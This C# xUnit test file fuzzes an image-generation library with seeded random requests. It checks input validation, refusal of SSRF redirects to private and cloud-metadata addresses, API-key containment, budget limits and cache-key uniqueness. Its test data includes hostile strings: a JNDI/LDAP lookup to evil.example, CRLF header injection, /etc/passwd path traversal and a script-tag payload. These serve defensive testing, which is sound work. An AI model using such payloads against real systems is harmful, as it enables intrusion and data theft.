using System.Net;
using System.Text.Json.Nodes;
using Microsoft.Extensions.DependencyInjection;
using UnifiedImageGen.AdobeFirefly;
using UnifiedImageGen.Caching;
using UnifiedImageGen.Costs;
using UnifiedImageGen.Google;
using UnifiedImageGen.Http;
using UnifiedImageGen.Ideogram;
using UnifiedImageGen.OpenAI;
using UnifiedImageGen.Placeholder;
using UnifiedImageGen.Routing;
using UnifiedImageGen.Security.Tests.Harness;
using UnifiedImageGen.Testing;
using UnifiedImageGen.Validation;

namespace UnifiedImageGen.Security.Tests;

/// <summary>
/// Thousands of random requests (a seeded <see cref="Random"/>, so a failure reproduces) through the validator and
/// every provider, each answering with a valid recorded response: whatever the request, the only exceptions are
/// <see cref="ArgumentException"/> (and subclasses) and <see cref="ImageGenerationException"/>, and the key never goes
/// to a host other than the provider's.
/// </summary>
public class RandomRequestTests
{
    private static readonly string[] OddText =
    [
        "a fox", "", " ", "\t\n", "🦊🏔️👨‍👩‍👧", "ﬃ Å Å", "\u202Eevil\u202C", "zero\u200Bwidth", "combining e\u0301\u0301\u0301", "中文提示", "עברית",
        "\uFEFFbom", "\uD83D", "\uDE00x", "nul\u0000", "bell\u0007", "del\u007F", "c1\u0085", "\"quotes\" and \\backslashes\\", "{\"prompt\":\"x\"}",
        "<script>alert(1)</script>", "../../../etc/passwd", "%00%0d%0aX-Injected: 1", "a\r\nX-Injected: 1", "${jndi:ldap://evil.example/a}",
        "\uFFFF\uFFFE", "\U0010FFFF", "𝕏𝕐ℤ",
    ];

    private static readonly string?[] Models =
    [
        null, null, null, "gpt-image-1", "dall-e-2", "dall-e-3", "sd3.5-large", "inpaint", "upscale-creative", "fal-ai/flux/dev", "fal-ai/flux/schnell",
        "black-forest-labs/flux-schnell", "flux-pro-1.1", "flux-pro-1.0-fill", "imagen-4.0-generate-001", "gemini-3.1-flash-image", "V_2", "image4_ultra",
        "unknown-model", "", " ", "https://evil.example/x", "//evil.example/x", "owner/name:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
        "deployments/acme/flux", "a\r\nX-Injected: 1", "../..", "模型",
    ];

    private static readonly string[] JsonKeys = ["prompt", "model", "n", "seed", "image_size", "num_images", "webhook_url", "authorization", "api_key", "x", "__proto__", "negative_prompt", "steps", ""];

    public static TheoryData<string> Providers() => [.. ProviderHost.Http, "placeholder"];

    [Fact]
    public void Validator_OnRandomRequests_OnlyThrowsArgumentOrImageGenerationExceptions()
    {
        var random = new Random(20261122);
        ImageModelDescriptor[] models =
        [
            ImageModelDescriptor.Permissive("any"),
            new("sizes", ImageCapabilities.All) { SupportedSizes = [new(1024, 1024), new(1792, 1024)], MaxPromptLength = 4000, MaxInputImageBytes = 4096 },
            new("ratios", ImageCapabilities.TextToImage | ImageCapabilities.Seed) { SupportedAspectRatios = [AspectRatio.Square, AspectRatio.Landscape16x9] },
            new("free", ImageCapabilities.All) { SizeConstraint = new ImageSizeConstraint(64, 2048, 16) { MaxPixels = 4_000_000 } },
        ];
        for (int i = 0; i < 4000; i++)
        {
            var request = RandomRequest(random, provider: "validator");
            try
            {
                ImageRequestValidator.Validate(request, models[random.Next(models.Length)], (UnsupportedSettingBehavior)random.Next(2), "validator");
            }
            catch (Exception ex) when (ex is ArgumentException or ImageGenerationException)
            {
            }
        }
    }

    [Theory]
    [MemberData(nameof(Providers))]
    public async Task Provider_OnRandomRequests_OnlyThrowsArgumentOrImageGenerationExceptions_AndKeepsTheKeyHome(string provider)
    {
        var random2 = new Random(StableSeed(provider));
        using var host = new ProviderHost(provider, configure: o => o.UnsupportedSettingBehavior = (UnsupportedSettingBehavior)(StableSeed(provider) % 2));
        int succeeded = 0, refused = 0;
        for (int i = 0; i < 300; i++)
        {
            var request = RandomRequest(random2, provider);
            if (provider == "placeholder" && request is { Size: { Width: > 0 } big })
            {
                // The placeholder really renders: keep its images small so the test stays fast (sizes are still random).
                request = request with { Size = new ImageSize(Math.Min(big.Width, 96), Math.Min(big.Height, 96)), Count = Math.Min(request.Count, 4) };
            }

            int before = host.Server.Count;
            var ex = await Hostile.Catch(() => host.Run(host.Provider.GenerateAsync(request)));
            if (ex is null)
            {
                succeeded++;
            }
            else if (ex is ArgumentException or ImageGenerationException)
            {
                refused++;
            }
            else
            {
                Assert.Fail($"{provider}, request #{i} ({Describe(request)}) threw {ex}");
            }

            foreach (var sent in host.Server.Requests.Skip(before))
            {
                Assert.False(sent.Uri.Host.Contains("evil", StringComparison.Ordinal), $"{provider} sent a request to {sent.Uri} for request #{i} ({Describe(request)})");
                Assert.DoesNotContain(sent.Headers, h => h.Key.Contains("Injected", StringComparison.OrdinalIgnoreCase));
            }
        }

        Assert.True(succeeded > 0, $"{provider}: no random request succeeded; the emulator or the generator is broken ({refused} refused).");
    }

    /// <summary>Every blocked range with a random address in it, as itself and in each IPv6 form that carries an IPv4 address.</summary>
    private static IEnumerable<(string Case, IPAddress Address)> RandomBlockedAddresses(Random random)
    {
        foreach (var range in Hostile.BlockedIPv4)
        {
            var v4 = range.Random(random);
            yield return ($"{v4} in {range}", v4);
            foreach (string form in Hostile.IPv6Forms)
            {
                var v6 = Hostile.Embed(v4, form, random);
                yield return ($"{v6} ({form} of {v4} in {range})", v6);
            }
        }

        foreach (var range in Hostile.BlockedIPv6)
        {
            var v6 = range.Random(random);
            yield return ($"{v6} in {range}", v6);
        }
    }

    [Fact]
    public void AddressPolicy_OnRandomAddresses_RefusesEveryBlockedRangeAndItsIPv6Forms_AndKeepsPublicOnesOpen()
    {
        var random = new Random(20261123);
        for (int round = 0; round < 200; round++)
        {
            foreach (var (name, address) in RandomBlockedAddresses(random))
            {
                Assert.True(ImageDownloader.IsPrivate(address), $"{name} was taken for a public address");
            }

            // A public IPv4 address stays public in the forms that carry it faithfully, and is refused in the forms that hide it.
            var v4 = Hostile.RandomPublicIPv4(random);
            Assert.False(ImageDownloader.IsPrivate(v4), $"{v4} was taken for a private address");
            foreach (string form in Hostile.IPv6Forms)
            {
                var v6 = Hostile.Embed(v4, form, random);
                Assert.Equal(Hostile.AlwaysRefusedForms.Contains(form), ImageDownloader.IsPrivate(v6));
            }

            // Random global unicast IPv6 (2000::/3) outside the special-purpose ranges and 6to4 is public.
            byte[] b = new byte[16];
            random.NextBytes(b);
            b[0] = (byte)(0x20 | (b[0] & 0x1F));
            var global = new IPAddress(b);
            if (!Hostile.BlockedIPv6.Any(r => r.Contains(global)) && !(b[0] == 0x20 && b[1] == 0x02))
            {
                Assert.False(ImageDownloader.IsPrivate(global), $"{global} was taken for a private address");
            }
        }
    }

    [Fact]
    public async Task ResultUrls_AtRandomAddressesInEveryBlockedRange_AreRefusedWithoutAFetch_ByEveryUrlProvider()
    {
        var random = new Random(20261124);
        int i = 0;
        foreach (var (name, address) in RandomBlockedAddresses(random))
        {
            string provider = ProviderHost.UrlResults[i++ % ProviderHost.UrlResults.Length];
            using var host = new ProviderHost(provider);
            var url = new Uri($"https://{Hostile.UrlHost(address)}/a.png");
            host.Server.ImageUrl = url.AbsoluteUri;
            var ex = await Hostile.Catch(() => host.Run(host.Provider.GenerateAsync(ProviderHost.Valid(provider))));
            var refused = Assert.IsType<ImageGenerationException>(ex, exactMatch: false);
            Assert.True(refused.Kind == ImageGenerationErrorKind.UnexpectedResponse && refused.Message.Contains("local or private", StringComparison.Ordinal), $"{provider}, {name}: {refused.Kind} {refused.Message}");
            Assert.DoesNotContain(host.Server.Requests, r => r.Uri.Host == url.Host);
        }
    }

    [Fact]
    public async Task ResultHosts_ResolvingToRandomBlockedAddresses_AreRefusedWhenConnecting_ThroughTheDependencyInjectionPath()
    {
        var random = new Random(20261125);
        int i = 0;
        foreach (var (name, address) in RandomBlockedAddresses(random))
        {
            string provider = ProviderHost.UrlResults[i++ % ProviderHost.UrlResults.Length];
            // The real guarded download handler; the name resolves (without DNS) to the blocked address.
            using var host = new ProviderHost(provider, configure: o => o.Download.HostResolver = (_, _) => ValueTask.FromResult(new[] { address }), guardedDownloads: true);
            var ex = await Hostile.Catch(() => host.Run(host.Provider.GenerateAsync(ProviderHost.Valid(provider))));
            var refused = Assert.IsType<ImageGenerationException>(ex, exactMatch: false);
            Assert.True(refused.Kind == ImageGenerationErrorKind.UnexpectedResponse && refused.Message.Contains("cdn.example.com", StringComparison.Ordinal) && refused.Message.Contains("local or private", StringComparison.Ordinal), $"{provider}, {name}: {refused.Kind} {refused.Message}");
            Assert.Equal(provider, refused.Provider);
            Assert.DoesNotContain(host.Server.Requests, r => r.Uri.Host == "cdn.example.com");
        }
    }

    public static TheoryData<string> UrlProviders() => [.. ProviderHost.UrlResults];

    [Theory]
    [MemberData(nameof(UrlProviders))]
    public async Task RandomRedirectChains_AreFollowedOnlyToPublicHttps_AndNeverPastTheLimit(string provider)
    {
        var random = new Random(StableSeed(provider) ^ 0x5EED);
        HttpStatusCode[] redirects = [HttpStatusCode.MovedPermanently, HttpStatusCode.Found, HttpStatusCode.SeeOther, HttpStatusCode.TemporaryRedirect, HttpStatusCode.PermanentRedirect];
        for (int round = 0; round < 40; round++)
        {
            var chain = new List<Uri> { new(FakeProviderServer.DefaultImageUrl) };
            for (int hop = random.Next(0, 8); hop > 0; hop--)
            {
                chain.Add(random.Next(3) == 0 ? new Uri(chain[^1], $"/r/{round}/{hop}") : new Uri($"https://hop{random.Next(100)}.example.net/r/{round}/{hop}"));
            }

            var blocked = random.Next(2) == 0
                ? Hostile.Embed(Hostile.BlockedIPv4[random.Next(Hostile.BlockedIPv4.Length)].Random(random), Hostile.IPv6Forms[random.Next(Hostile.IPv6Forms.Length)], random)
                : Hostile.BlockedIPv6[random.Next(Hostile.BlockedIPv6.Length)].Random(random);
            string ending = new[] { "blocked", "blocked", "image", "http", "credentials" }[random.Next(5)];
            chain.Add(ending switch
            {
                "blocked" => new Uri($"https://{Hostile.UrlHost(blocked)}/latest/meta-data/"),
                "image" => new Uri($"https://img{round}.example.org/final.png"),
                "http" => new Uri($"http://img{round}.example.org/final.png"),
                _ => new Uri($"https://user:secret@img{round}.example.org/final.png"),
            });

            using var host = new ProviderHost(provider);
            host.Server.ImageUrl = chain[0].AbsoluteUri;
            host.Server.Override = (request, _) =>
            {
                int at = chain.FindIndex(u => u.AbsoluteUri == request.RequestUri!.AbsoluteUri);
                if (at < 0 || request.Method != HttpMethod.Get)
                {
                    return null;
                }

                if (at == chain.Count - 1)
                {
                    return Task.FromResult(FakeProviderServer.Image());
                }

                var next = chain[at + 1];
                var location = next.Host == chain[at].Host && random.Next(2) == 0 ? new Uri(next.PathAndQuery, UriKind.Relative) : next;
                return Task.FromResult(new HttpResponseMessage(redirects[random.Next(redirects.Length)]) { Headers = { Location = location } });
            };

            int hops = chain.Count - 1;
            string what = $"{provider}, round {round}: {string.Join(" -> ", chain)}";
            var ex = await Hostile.Catch(() => host.Run(host.Provider.GenerateAsync(ProviderHost.Valid(provider))));
            if (hops > 5)
            {
                Assert.True(ex is ImageGenerationException { Kind: ImageGenerationErrorKind.UnexpectedResponse } e && e.Message.Contains("redirected more than", StringComparison.Ordinal), $"{what}: {ex}");
            }
            else if (ending == "image")
            {
                Assert.True(ex is null, $"{what}: {ex}");
            }
            else
            {
                string expected = ending switch { "blocked" => "local or private", "http" => "only https", _ => "credentials" };
                Assert.True(ex is ImageGenerationException { Kind: ImageGenerationErrorKind.UnexpectedResponse } e && e.Message.Contains(expected, StringComparison.Ordinal), $"{what}: {ex}");
            }

            var fetched = host.Server.Requests.Where(r => chain.Any(u => u.AbsoluteUri == r.Uri.AbsoluteUri)).ToArray();
            Assert.True(fetched.Length <= Math.Min(hops, 5) + 1, $"{what}: {fetched.Length} fetches");
            Assert.DoesNotContain(host.Server.Requests, r => r.Uri.Scheme != "https" || r.Uri.UserInfo.Length > 0 || (IPAddress.TryParse(r.Uri.DnsSafeHost, out var a) && ImageDownloader.IsPrivate(a)));
        }
    }

    [Fact]
    public async Task Budget_RandomHostileCountsRacingRealCalls_NeverLetSpendPassTheBudget()
    {
        // Seeded rounds of calls with random counts (zero, negative, int.MinValue, int.MaxValue, huge, or valid) fired at
        // once through the README's pipeline against a budget: only valid counts are priced, and spend never passes it.
        var random = new Random(20261119);
        for (int round = 0; round < 20; round++)
        {
            var seen = new System.Collections.Concurrent.ConcurrentBag<int>();
            var paid = new ScriptedImageGenerator("paid", async (r, _, _) =>
            {
                seen.Add(r.Count);
                await Task.Yield();
                return ScriptedImageGenerator.Result("paid", r);
            });
            var services = new ServiceCollection();
            services.AddImageGeneration()
                .AddProvider("paid", _ => paid)
                .AddPlaceholder()
                .UseFallback("paid/m1", "placeholder")
                .UseCaching()
                .UseCostTracking(c =>
                {
                    c.MonthlyBudgetUsd = 1.00m;
                    c.Prices.Add(new PriceEntry { Provider = "paid", Model = "*", Unit = PriceUnit.PerImage, Usd = 0.10m });
                });
            await using var provider = services.BuildServiceProvider();
            var generator = provider.GetRequiredService<IImageGenerator>();

            var counts = Enumerable.Range(0, 400).Select(_ => Hostile.Count(random)).ToArray();
            var calls = counts.Select(count => Task.Run(() => generator.GenerateAsync(new ImageGenerationRequest("a fox") { Count = count }))).ToArray();
            await Task.WhenAll(calls.Select(c => c.ContinueWith(_ => { }, TaskScheduler.Default)));

            for (int i = 0; i < calls.Length; i++)
            {
                var error = calls[i].Exception?.InnerException;
                if (counts[i] is < 1 or > ImageRequestValidator.MaxCount)
                {
                    Assert.True(error is ArgumentOutOfRangeException, $"round {round}: Count {counts[i]} ended with {error?.GetType().Name ?? "success"}.");
                }
                else
                {
                    Assert.True(error is null or ImageGenerationException { Kind: ImageGenerationErrorKind.BudgetExceeded }, $"round {round}: Count {counts[i]} ended with {error}.");
                }
            }

            var entries = await provider.GetRequiredService<ICostLedger>().GetEntriesAsync(new CostQuery());
            Assert.All(entries, e => Assert.True(e.EstimatedUsd >= 0m && e.ChargedUsd >= 0m, $"round {round}: a ledger entry of {e.EstimatedUsd}/{e.ChargedUsd}."));
            Assert.True(entries.Sum(e => e.ChargedUsd) <= 1.00m, $"round {round}: ${entries.Sum(e => e.ChargedUsd)} spent against a $1.00 budget.");
            Assert.Equal(seen.Sum(), entries.Sum(e => e.Images));
            Assert.All(seen, n => Assert.InRange(n, 1, ImageRequestValidator.MaxCount));
        }
    }

    [Fact]
    public async Task CacheKey_OnRandomPairsOfRequests_DifferentRequestsNeverShareAKey_AndEqualRequestsAlwaysDo()
    {
        var random = new Random(20261123);
        int different = 0, equal = 0, throughPipeline = 0;
        for (int i = 0; i < 3000; i++)
        {
            var original = RandomKeyedRequest(random);
            var (variant, change, same) = random.Next(4) == 0 ? Equivalent(random, original) : Mutated(random, original);
            string? one = ImageCacheKey.Compute("p", "m", original), other = ImageCacheKey.Compute("p", "m", variant);
            if (same)
            {
                Assert.True(one == other, $"pair #{i}: equal requests ({change}) got different keys");
                equal++;
            }
            else if (one is not null && other is not null)
            {
                Assert.True(one != other, $"pair #{i}: different requests ({change}) share the key {one}");
                different++;
            }

            // Some pairs go through a fresh caching layer: a different request must reach the provider.
            if (!same && i % 10 == 0)
            {
                var recorder = new ScriptedImageGenerator("p");
                var pipeline = new ImageGeneratorBuilder(recorder).UseCaching(policy: new CachePolicy { CacheUnseeded = true }).Build();
                try
                {
                    await pipeline.GenerateAsync(original);
                    var answer = await pipeline.GenerateAsync(variant);
                    Assert.False(answer.FromCache, $"pair #{i}: a request with another {change} was served the first one's cached image");
                    Assert.Equal(2, recorder.Calls);
                    throughPipeline++;
                }
                catch (ArgumentException)
                {
                    // The validator refused one of them before any cache lookup: nothing to compare.
                }
            }
        }

        Assert.True(different > 1500 && equal > 500 && throughPipeline > 50, $"{different} different pairs, {equal} equal pairs, {throughPipeline} through the pipeline: the generator has gone stale.");
    }

    private static string Lookalike(Random random) => Hostile.KeyLookalikes[random.Next(Hostile.KeyLookalikes.Length)];

    private static string? MaybeLookalike(Random random) => random.Next(5) == 0 ? null : Lookalike(random);

    // A valid request whose fields are drawn from values that collide in naive canonical forms.
    private static ImageGenerationRequest RandomKeyedRequest(Random random)
    {
        var operation = random.Next(3) == 0 ? ImageOperation.Inpaint : ImageOperation.Generate;
        return new ImageGenerationRequest
        {
            Prompt = "a fox " + Lookalike(random),
            NegativePrompt = MaybeLookalike(random),
            Operation = operation,
            Count = random.Next(1, 4),
            Seed = random.Next(3) == 0 ? null : random.Next(0, 3),
            Size = random.Next(3) == 0 ? null : new ImageSize(64 * random.Next(1, 3), 64),
            Style = MaybeLookalike(random),
            Quality = random.Next(3) == 0 ? (ImageQuality?)null : new ImageQuality("q" + Lookalike(random)),
            Strength = random.Next(3) == 0 ? null : random.Next(3) * 0.5,
            Steps = random.Next(3) == 0 ? null : random.Next(1, 3),
            InputImages = operation == ImageOperation.Inpaint ? [ImageInput.FromBytes(Hostile.Png(4, 4))] : [],
            Mask = operation == ImageOperation.Inpaint ? ImageInput.FromBytes(Hostile.Png(4, 4, (byte)random.Next(2))) : null,
            Loras = random.Next(3) == 0 ? [new LoraWeight("owner/" + Lookalike(random), 1)] : [],
            ProviderOptions = random.Next(2) == 0 ? null : new Dictionary<string, object>(StringComparer.Ordinal)
            {
                ["p"] = RandomOptions(random),
            },
        };
    }

    private static object RandomOptions(Random random) => random.Next(5) switch
    {
        0 => new JsonObject { ["a"] = Lookalike(random), ["b"] = random.Next(3) == 0 ? null : (JsonNode)random.Next(2) },
        1 => new AdobeFireflyRequestOptions { StylePresets = random.Next(3) == 0 ? null : Enumerable.Range(0, random.Next(0, 3)).Select(_ => Lookalike(random)).ToArray(), ContentClass = MaybeLookalike(random) },
        2 => new GoogleRequestOptions { SafetySettings = [new GoogleSafetySetting(Lookalike(random), Lookalike(random))], ImageSize = MaybeLookalike(random) },
        3 => new IdeogramRequestOptions { CharacterReferenceImages = [ImageInput.FromBytes(Hostile.Png(4, 4, (byte)random.Next(2)))], MagicPrompt = MaybeLookalike(random) },
        _ => new OpenAIRequestOptions { Background = MaybeLookalike(random), OutputCompression = random.Next(3) == 0 ? null : random.Next(2) },
    };

    // A request the provider receives differently: one field changed to another adversarial value.
    private static (ImageGenerationRequest Variant, string Change, bool Same) Mutated(Random random, ImageGenerationRequest r)
    {
        switch (random.Next(14))
        {
            case 0:
                string prompt = "a fox " + Lookalike(random);
                return (r with { Prompt = prompt }, "prompt", ImageCacheKey.NormalizePrompt(prompt) == ImageCacheKey.NormalizePrompt(r.Prompt!));
            case 1:
                string? negative = MaybeLookalike(random);
                return (r with { NegativePrompt = negative }, "negative prompt", negative is null ? r.NegativePrompt is null : r.NegativePrompt is not null && ImageCacheKey.NormalizePrompt(negative) == ImageCacheKey.NormalizePrompt(r.NegativePrompt));
            case 2:
                string? style = MaybeLookalike(random);
                return (r with { Style = style }, "style", style == r.Style);
            case 3:
                var quality = random.Next(3) == 0 ? (ImageQuality?)null : new ImageQuality("q" + Lookalike(random));
                return (r with { Quality = quality }, "quality", quality?.Value == r.Quality?.Value);
            case 4:
                long? seed = random.Next(3) == 0 ? null : random.Next(0, 3);
                return (r with { Seed = seed }, "seed", seed == r.Seed);
            case 5:
                return (r with { Steps = r.Steps is null ? 1 : null }, "steps", false);
            case 6:
                return (r with { Strength = r.Strength is null ? 0 : r.Strength == 0 ? -0.0 : null }, "strength (null, 0, -0)", false);
            case 7:
                return (r with { Size = r.Size is null ? default(ImageSize) : null }, "size", false);
            case 8:
                return (r with { Count = r.Count + 1 }, "count", false);
            case 9:
                return (r with { Loras = [.. r.Loras, new LoraWeight(Lookalike(random), 1)] }, "loras", false);
            case 10 when r.Mask is not null:
                return (r with { Mask = ImageInput.FromBytes(Hostile.Png(4, 4, (byte)random.Next(2, 256))) }, "mask bytes of the same length", false);
            case 11:
                // A second entry whose name differs only in case: what a provider reads would depend on their order.
                var doubled = new Dictionary<string, object>(r.ProviderOptions ?? new Dictionary<string, object>(), StringComparer.Ordinal) { ["P"] = new JsonObject { ["a"] = Lookalike(random) } };
                return (r with { ProviderOptions = doubled }, "option names in two cases", false);
            default:
                var options = RandomOptions(random);
                var before = r.ProviderOptions?["p"];
                bool same = before is not null && SameOptions(options, before);
                return (r with { ProviderOptions = new Dictionary<string, object> { ["p"] = options } }, "provider options " + options.GetType().Name, same);
        }
    }

    // The same request built anew: cloned lists and options, prompt white space changed, option name in another case.
    private static (ImageGenerationRequest Variant, string Change, bool Same) Equivalent(Random random, ImageGenerationRequest r)
    {
        var options = r.ProviderOptions?.ToDictionary(p => random.Next(2) == 0 ? p.Key.ToUpperInvariant() : p.Key, p => p.Value switch
        {
            JsonObject json => new JsonObject(json.Reverse().Select(m => KeyValuePair.Create(m.Key, m.Value?.DeepClone()))),
            AdobeFireflyRequestOptions firefly => firefly with { StylePresets = firefly.StylePresets?.ToList() },
            var other => other,
        });
        return (r with
        {
            Prompt = "  " + r.Prompt!.Replace(" ", "\t  ", StringComparison.Ordinal) + "\n",
            InputImages = r.InputImages.ToList(),
            Mask = r.Mask is null ? null : ImageInput.FromBytes(r.Mask.Data.ToArray()),
            Loras = r.Loras.Select(l => l with { }).ToList(),
            ProviderOptions = options,
            User = "another tenant",
        }, "rebuilt", true);
    }

    // Value equality written out independently of the key: lists and images compared element by element.
    private static bool SameOptions(object one, object other) => (one, other) switch
    {
        (JsonObject a, JsonObject b) => JsonNode.DeepEquals(a, b),
        (AdobeFireflyRequestOptions a, AdobeFireflyRequestOptions b) => a.ContentClass == b.ContentClass && SameList(a.StylePresets, b.StylePresets, string.Equals),
        (GoogleRequestOptions a, GoogleRequestOptions b) => a.ImageSize == b.ImageSize && SameList(a.SafetySettings, b.SafetySettings, Equals),
        (IdeogramRequestOptions a, IdeogramRequestOptions b) => a.MagicPrompt == b.MagicPrompt && SameList(a.CharacterReferenceImages, b.CharacterReferenceImages, (x, y) => x.Data.Span.SequenceEqual(y.Data.Span)),
        (OpenAIRequestOptions a, OpenAIRequestOptions b) => a == b,
        _ => false,
    };

    private static bool SameList<T>(IReadOnlyList<T>? one, IReadOnlyList<T>? other, Func<T, T, bool> same) =>
        one is null || other is null ? one is null && other is null : one.Count == other.Count && one.Zip(other).All(p => same(p.First, p.Second));

    /// <summary>
    /// Random non-image payloads (<see cref="Hostile.NonImage"/>) wherever each provider's images arrive: base64 fields
    /// (OpenAI <c>b64_json</c>, Google inline data, Replicate data URIs), raw bodies (Stability <c>image/*</c>, ComfyUI
    /// <c>/view</c>) and downloads (every URL provider). Each is refused as UnexpectedResponse, whose message says
    /// what the bytes look like but never holds them.
    /// </summary>
    [Theory]
    [MemberData(nameof(HttpProviders))]
    public async Task Provider_OnRandomNonImagePayloads_RefusesEachAsUnexpectedResponse(string provider)
    {
        var random = new Random(StableSeed("non-image " + provider));
        using var host = new ProviderHost(provider);
        for (int i = 0; i < 40; i++)
        {
            var (kind, payload) = Hostile.NonImage(random);
            bool inline = random.Next(2) == 0;
            host.Server.Override = (request, _) => NonImageAnswer(provider, request, payload, inline);
            var ex = await Hostile.Catch(() => host.Run(host.Provider.GenerateAsync(ProviderHost.Valid(provider))));
            var refused = Assert.IsType<ImageGenerationException>(ex);
            Assert.True(refused.Kind == ImageGenerationErrorKind.UnexpectedResponse, $"{provider}, payload #{i} ({kind}, {payload.Length} bytes, inline: {inline}) gave {refused.Kind}: {refused.Message}");
            Assert.DoesNotContain("Bad Gateway", refused.ToString(), StringComparison.Ordinal);
            if (payload.Length >= 16)
            {
                Assert.DoesNotContain(Convert.ToBase64String(payload)[..16], refused.ToString(), StringComparison.Ordinal);
            }
        }
    }

    public static TheoryData<string> HttpProviders() => [.. ProviderHost.Http];

    // The provider's answer with the payload where its image goes; null leaves the request to the emulator.
    private static Task<HttpResponseMessage>? NonImageAnswer(string provider, HttpRequestMessage request, byte[] payload, bool inline)
    {
        var uri = request.RequestUri!;
        string b64 = Convert.ToBase64String(payload);
        if (uri.Host == "cdn.example.com")
        {
            return Task.FromResult(FakeProviderServer.Image(payload));
        }

        return provider switch
        {
            "openai" when inline && request.Method == HttpMethod.Post => Task.FromResult(FakeProviderServer.Json($$"""{"created":1764000000,"data":[{"b64_json":"{{b64}}"}]}""")),
            "google" => Task.FromResult(FakeProviderServer.Json($$$"""{"candidates":[{"content":{"role":"model","parts":[{"inlineData":{"mimeType":"image/png","data":"{{{b64}}}"}}]},"finishReason":"STOP","index":0}]}""")),
            "stability" when request.Method == HttpMethod.Post => Task.FromResult(FakeProviderServer.Image(payload)),
            "comfyui" when uri.AbsolutePath.EndsWith("/view", StringComparison.Ordinal) => Task.FromResult(FakeProviderServer.Image(payload)),
            "replicate" when inline && request.Method == HttpMethod.Post => Task.FromResult(FakeProviderServer.Json($$$"""{"id":"ufawqhfynnddngldkgtslldrkq","model":"black-forest-labs/flux-schnell","version":"hidden","status":"succeeded","input":{},"logs":"","output":["data:image/png;base64,{{{b64}}}"],"error":null,"created_at":"2026-11-22T10:00:00.000Z","metrics":{"predict_time":0.6}}""")),
            _ => null,
        };
    }

    private static int StableSeed(string text) => text.Aggregate(17, (h, c) => (h * 31) + c) & int.MaxValue;

    private static string Describe(ImageGenerationRequest r) =>
        $"Operation={r.Operation}, Model={r.Model}, Count={r.Count}, Size={r.Size}, Ratio={r.AspectRatio}, Seed={r.Seed}, Steps={r.Steps}, Guidance={r.GuidanceScale}, Strength={r.Strength}, Inputs={r.InputImages.Count}, Mask={r.Mask}, Options={(r.ProviderOptions is null ? "" : string.Join(";", r.ProviderOptions.Select(o => o.Key + "=" + o.Value)))}, PromptLength={r.Prompt?.Length}";

    internal static ImageGenerationRequest RandomRequest(Random random, string provider)
    {
        string? Text()
        {
            return random.Next(10) switch
            {
                0 => null,
                1 => new string((char)random.Next(0x20, 0x7F), random.Next(0, 40_000)),
                2 => string.Concat(Enumerable.Range(0, random.Next(1, 6)).Select(_ => OddText[random.Next(OddText.Length)])),
                3 => new string(Enumerable.Range(0, random.Next(1, 50)).Select(_ => (char)random.Next(0, 0x10000)).ToArray()),
                _ => "a fox " + OddText[random.Next(OddText.Length)],
            };
        }

        ImageInput RandomImage() => random.Next(6) switch
        {
            0 => ImageInput.FromUri(new Uri($"https://cdn.example.com/in/{random.Next()}.png")),
            1 => ImageInput.FromBytes(Hostile.Png(random.Next(1, 70), random.Next(1, 70)), "image/png"),
            2 => ImageInput.FromBytes(new byte[] { 0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, (byte)'J', (byte)'F', (byte)'I', (byte)'F', 0, 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xFF, 0xC0, 0x00, 0x11, 0x08, 0x00, 0x02, 0x00, 0x03, 0x03, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1, 0xFF, 0xD9 }),
            _ => ImageInput.FromBytes(Hostile.Png(64, 64)),
        };

        ImageSize? size = random.Next(4) switch
        {
            0 => new ImageSize(random.Next(1, ImageSize.MaxSide + 1), random.Next(1, ImageSize.MaxSide + 1)),
            1 => new ImageSize(64 * random.Next(1, 40), 64 * random.Next(1, 40)),
            2 when random.Next(4) == 0 => default(ImageSize),
            _ => null,
        };
        var inputs = Enumerable.Range(0, random.Next(4) == 0 ? random.Next(0, 5) : 0).Select(_ => RandomImage()).ToArray();
        var operation = random.Next(12) switch
        {
            < 5 => ImageOperation.Generate,
            11 => (ImageOperation)random.Next(-3, 12),
            var n => (ImageOperation)(n - 4),
        };
        if (operation != ImageOperation.Generate && random.Next(3) > 0 && inputs.Length == 0)
        {
            inputs = [RandomImage()];
        }

        IReadOnlyDictionary<string, object>? options = null;
        if (random.Next(4) == 0)
        {
            var json = new JsonObject();
            for (int k = random.Next(0, 4); k > 0; k--)
            {
                json[JsonKeys[random.Next(JsonKeys.Length)]] = random.Next(3) switch { 0 => (JsonNode)random.Next(), 1 => Text() ?? "x", _ => new JsonObject { ["nested"] = true } };
            }

            object value = random.Next(5) == 0 ? (object)"not an options object" : json;
            options = new Dictionary<string, object> { [random.Next(5) == 0 ? "other" : provider] = value };
        }

        return new ImageGenerationRequest
        {
            Prompt = Text(),
            NegativePrompt = random.Next(5) == 0 ? Text() : null,
            Model = random.Next(3) == 0 ? Models[random.Next(Models.Length)] : ProviderHost.ModelFor(provider),
            Operation = operation,
            Count = random.Next(10) switch { 0 => random.Next(-3, 1), 1 => random.Next(5, 200), _ => random.Next(1, 5) },
            Size = size,
            AspectRatio = random.Next(4) == 0 ? new AspectRatio(random.Next(1, 40), random.Next(1, 40)) : random.Next(30) == 0 ? default(AspectRatio) : null,
            Seed = random.Next(3) switch { 0 => null, 1 => random.Next(), _ => random.NextInt64(long.MinValue, long.MaxValue) },
            Steps = random.Next(4) == 0 ? random.Next(-5, 2000) : null,
            GuidanceScale = random.Next(4) == 0 ? random.Next(6) switch { 0 => double.NaN, 1 => double.PositiveInfinity, _ => (random.NextDouble() * 150) - 20 } : null,
            Strength = random.Next(4) == 0 ? random.Next(5) switch { 0 => double.NaN, 1 => double.NegativeInfinity, _ => (random.NextDouble() * 1.6) - 0.3 } : null,
            Quality = random.Next(4) == 0 ? new ImageQuality(random.Next(2) == 0 ? "hd" : (Text() ?? "x") + "q") : (ImageQuality?)null,
            Style = random.Next(6) == 0 ? Text() : null,
            OutputFormat = random.Next(4) == 0 ? random.Next(4) switch { 0 => ImageFormat.Png, 1 => ImageFormat.Jpeg, 2 => ImageFormat.Webp, _ => new ImageFormat("tiff") } : (ImageFormat?)null,
            InputImages = inputs,
            Mask = inputs.Length > 0 && random.Next(3) == 0 ? ImageInput.FromBytes(Hostile.Png(random.Next(2) == 0 ? 64 : random.Next(1, 80), 64)) : null,
            Loras = random.Next(8) == 0 ? [new LoraWeight(random.Next(2) == 0 ? "https://cdn.example.com/l.safetensors" : "owner/lora", random.NextDouble() * 2)] : [],
            ProviderOptions = options,
            User = random.Next(5) == 0 ? Text() : null,
        };
    }
}
